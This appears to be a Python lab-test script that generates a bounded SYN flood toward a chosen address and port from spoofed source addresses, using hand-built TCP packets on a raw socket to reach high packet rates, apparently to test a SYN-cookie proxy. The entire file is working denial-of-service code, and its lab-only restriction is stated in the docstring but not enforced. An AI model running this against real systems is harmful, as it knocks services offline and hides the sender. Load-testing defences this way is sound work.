#!/usr/bin/python3
"""Bounded SYN flood from spoofed sources (lab test lab_syn_flood).

usage: syn_flood.py --dst IP --dport P --src-net A.B.0.0/16 --count N --max-seconds S [--pps R]

Sends N TCP SYNs (stops early after S seconds) to DST:P, each from a different (address, port)
of SRC_NET (a prefix the lab routes to the client namespace but assigns to nobody, so no one
answers the SYN-ACKs), as fast as one process can or at R packets/s. Raw IPv4 socket with
IP_HDRINCL and packets built before the clock starts, so the rate is bounded by the sendto
syscall, not by Python building headers (scapy manages a few thousand per second). Prints one
line: "sent N SYNs in T s (R pps)". Only for addresses inside the lab's namespaces.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


# The SYN's options, like a Linux client's without timestamps: MSS 1460, SACK-permitted,
# window scale 7 (so the proxy encodes every option kind in its cookies).
OPTS = bytes([2, 4, 0x05, 0xB4, 4, 2, 1, 3, 3, 7, 1, 1])


def syn(src, dst, sport, dport, isn):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (5 + len(OPTS) // 4) << 4, 0x02,
                      64240, 0, 0) + OPTS
    c = csum(struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    # Linux fills in the total length, the id and the header checksum (raw(7)); DF set.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP,
                     0, src, dst)
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--src-net", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--max-seconds", type=float, required=True)
    ap.add_argument("--pps", type=float, default=0)
    a = ap.parse_args()
    net = ipaddress.ip_network(a.src_net)
    hosts = net.num_addresses - 2
    dst = socket.inet_aton(a.dst)
    rnd = random.Random(0x5EED)
    # Every SYN its own 4-tuple: address i % hosts, port from 1024 up per wrap of the prefix.
    pkts = []
    for i in range(a.count):
        src = (net.network_address + 1 + i % hosts).packed
        pkts.append(syn(src, dst, 1024 + (i // hosts) % 64000, a.dport, rnd.getrandbits(32)))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    addr = (a.dst, 0)
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    sent = 0
    failed = 0
    gap = 1.0 / a.pps if a.pps > 0 else 0.0
    for pkt in pkts:
        try:
            s.sendto(pkt, addr)
        except OSError:
            failed += 1  # a full queue: not sent, not counted
        else:
            sent += 1
        if (sent + failed) & 255 == 0:
            now = time.monotonic()
            if now > deadline:
                break
            if gap:
                ahead = t0 + sent * gap - now
                if ahead > 0:
                    time.sleep(ahead)
    t = time.monotonic() - t0
    print(f"sent {sent} SYNs in {t:.2f} s ({sent / t:.0f} pps), {failed} sends failed")


if __name__ == "__main__":
    main()
